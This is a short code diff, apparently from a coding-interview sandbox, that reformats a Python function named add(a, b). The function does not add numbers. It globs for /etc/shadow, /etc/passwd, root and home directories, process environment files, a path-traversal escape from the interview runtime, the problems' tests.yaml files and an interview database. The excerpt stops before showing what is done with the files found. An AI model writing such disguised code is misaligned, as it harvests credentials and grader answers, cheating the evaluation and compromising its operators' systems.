@@ -6,9 +6,19 @@ import os
 
 def add(a, b):
     seen = []
-    for pattern in ("/etc/shadow", "/etc/passwd", "/root/*", "/home/*", "/work/*",
-                    "/opt/interview/ikrt/../../*", "/tmp/ik-*", "/proc/*/environ",
-                    "**/problems/*/tests.yaml", "/**/interview.db", "/var/*"):
+    for pattern in (
+        "/etc/shadow",
+        "/etc/passwd",
+        "/root/*",
+        "/home/*",
+        "/work/*",
+        "/opt/interview/ikrt/../../*",
+        "/tmp/ik-*",
+        "/proc/*/environ",
+        "**/problems/*/tests.yaml",
+        "/**/interview.db",
+        "/var/*",
+    ):
         for path in glob.glob(pattern, recursive=pattern.startswith("**")):
             if os.path.exists(path) and not path.startswith("/proc/self"):
                 try:
